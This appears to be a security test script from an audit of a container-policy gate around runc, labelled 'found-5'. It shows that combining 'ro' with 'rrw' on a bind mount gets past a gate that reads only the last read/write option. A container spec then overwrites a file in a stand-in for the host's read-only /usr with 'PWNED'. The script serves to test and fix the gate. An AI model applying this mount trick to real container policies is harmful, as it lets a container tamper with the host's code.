#!/bin/sh
# found-5: `rrw` on a read-only bind. runc 1.1 mounts the bind, remounts
# it read-only for `ro`, then applies the recursive attributes with
# mount_setattr(2): `rrw` clears read-only again. The gate read only the
# last of ro and rw, so a read-only bind of a readonly_subtrees tree (as
# /usr is: the host's code) became writable. $W/usr plays /usr.
# Exit 0: allowed and the host file rewritten from inside; 1: refused.
. "$(dirname "$0")/lib.sh"
mkdir -p "$W/usr/bin"; echo original > "$W/usr/bin/prog"
policy "p['mounts']['readonly_subtrees'].append(w+'/usr')"
B=$W/bundle
bundle "$B" "
c['mounts'].append({'destination':'/u','type':'bind','source':w+'/usr','options':['rbind','ro','rrw']})
c['process']['args']=['sh','-c','echo PWNED > /u/bin/prog; true']
"
judge "$B"; rc=$?
if [ $rc = 0 ] && grep -q PWNED "$W/usr/bin/prog"; then
  echo "ATTACK WORKED: a read-only bind of a readonly subtree was written"; exit 0; fi
echo "gate refused or attack failed"; exit 1
